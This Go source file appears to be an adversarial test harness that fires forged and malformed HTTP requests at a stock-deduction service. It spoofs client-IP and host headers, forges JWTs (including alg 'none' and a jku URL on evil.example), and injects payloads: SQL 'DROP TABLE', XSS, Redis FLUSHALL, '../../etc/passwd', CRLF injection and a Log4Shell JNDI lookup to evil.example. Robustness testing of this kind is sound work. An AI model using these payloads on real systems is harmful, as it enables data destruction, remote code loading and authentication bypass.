package hostile

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"
)

// forgeries are attacks by what a client says of itself.
func forgeries() []Attack {
	return []Attack{
		{Name: "forge the address", Row: "13", Weight: 2, do: func(ctx context.Context, a *attacker) []outcome {
			forged := fmt.Sprintf("198.51.100.%d", a.IntN(256))
			header := make(map[string]string)
			for _, name := range []string{"X-Forwarded-For", "X-Real-IP", "Forwarded", "True-Client-IP", "CF-Connecting-IP", "X-Client-IP"} {
				header[name] = pick(a, forged, "127.0.0.1", "for="+forged, forged+", 127.0.0.1", "2001:db8::1%eth0", ",")
			}
			return a.buy(ctx, map[string]string{"goods_id": itoa(pick(a, a.slow...)), accountField: a.account()}, header)
		}},
		{Name: "forge the buyer", Row: "2", do: func(ctx context.Context, a *attacker) []outcome {
			key, user := a.stolen(a.Rand)
			return a.buy(ctx, map[string]string{"goods_id": itoa(pick(a, a.slow...))}, map[string]string{"X-Stockd-Buyer": user, "Idempotency-Key": key})
		}},
		{Name: "forge a token", Row: "2", Weight: 2, do: func(ctx context.Context, a *attacker) []outcome {
			return a.buy(ctx, map[string]string{"goods_id": itoa(pick(a, a.slow...))}, map[string]string{"Authorization": pick(a, "Bearer ", "bearer ", "Basic ", "") + a.token()})
		}},
		{Name: "forge the host and the prefix", Row: "11", do: func(ctx context.Context, a *attacker) []outcome {
			return a.send(ctx, request{
				method: http.MethodGet, path: pick(a, "/goods/1/", "/deduct/", "//evil.example/", "/healthz"), host: pick(a, "evil.example", "127.0.0.1", "localhost:1"),
				header: map[string]string{"X-Forwarded-Prefix": "//evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https", "X-Original-URL": "/goods"},
			})
		}},
		{Name: "add a slash", Row: "11", do: func(ctx context.Context, a *attacker) []outcome {
			path := pick(a, "/deduct/", "/goods/1/", "//deduct", "/deduct/..", "/./deduct", "/readyz/", "/DEDUCT", "/goods//1", "/strategies/")
			return a.send(ctx, request{method: pick(a, http.MethodPost, http.MethodGet), path: path, header: map[string]string{"X-Forwarded-Prefix": "/evil"}})
		}},
		{Name: "ask whether it is ready", Row: "11", Weight: 3, do: func(ctx context.Context, a *attacker) []outcome {
			return a.get(ctx, pick(a, "/readyz", "/healthz", "/readyz?"+a.text(5)))
		}},
		{Name: "put fragments of languages into fields", Row: "1", do: func(ctx context.Context, a *attacker) []outcome {
			fragment := pick(a, `1'; DROP TABLE tb_goods_stock; --`, `1 OR 1=1`, `"><script>alert(1)</script>`, `return redis.call('FLUSHALL')`,
				`../../etc/passwd`, "\x00\x01", "\r\nX-Injected: yes", `%s%n%d`, `${jndi:ldap://evil.example/}`)
			field := pick(a, "goods_id", "quantity", "user_id", "strategy", "group", "durable", a.text(3))
			return a.buy(ctx, map[string]string{"goods_id": "1", field: fragment}, a.signed())
		}},
		{Name: "send anything", Row: "6", Weight: 3, do: anything},
	}
}

// anything is a request of random parts.
func anything(ctx context.Context, a *attacker) []outcome {
	path := pick(a, "/deduct", "/goods/", "/orders", "/strategies", "/", "/metrics", "/debug/pprof/", "/lab/faults") +
		pick(a, "", "?", "?goods_id=", "/../") + url.QueryEscape(a.bytes(a.IntN(40)))
	header := map[string]string{"X-Request-ID": a.text(a.IntN(200)), "Idempotency-Key": a.text(1 + a.IntN(200)), "Traceparent": a.text(55)}
	if a.IntN(2) == 0 {
		header["Content-Type"] = pick(a, "application/json", "application/x-www-form-urlencoded", "text/html", "multipart/form-data; boundary=x", "application/json; charset=utf-16")
	}
	method := pick(a, http.MethodPost, http.MethodGet, http.MethodPut, http.MethodPatch, http.MethodDelete, http.MethodOptions, http.MethodTrace, "BREW")
	body := pick(a, "", a.bytes(a.IntN(2000)), `{"goods_id": 1, "quantity": 1e3}`, `{"goods_id": 1} {}`, `{"goods_id": 1, "goods_id": 2}`, "goods_id=1&goods_id=2")
	return a.send(ctx, request{method: method, path: path, header: header, body: body})
}

// token is a JWT that no issuer signed.
func (a *attacker) token() string {
	_, user := a.stolen(a.Rand)
	algorithm := pick(a, "none", "None", "HS256", "HS512", "EdDSA", "RS256", "", "ES256")
	header := fmt.Sprintf(`{"alg":%q,"typ":"JWT","kid":%q,"jwk":{"kty":"oct","k":"AAAA"},"jku":"http://evil.example/"}`, algorithm, pick(a, "", "1", "../../dev/null", a.text(20)))
	claims := fmt.Sprintf(`{"sub":%q,"exp":%d,"aud":%q}`, user, pick[int64](a, 0, 1_000_000_000, 4_000_000_000, 1<<60), pick(a, "shop", "", "stockd"))
	whole := sign(header, claims, pick(a, "", "secret", "password", "0123456789abcdef0123456789abcdef"))
	unsigned := whole[:strings.LastIndexByte(whole, '.')]
	return pick(a, whole, unsigned+".", unsigned, a.text(40), strings.Repeat(a.text(8), 900), "..", a.text(6)+"."+a.text(9)+"."+a.text(9))
}
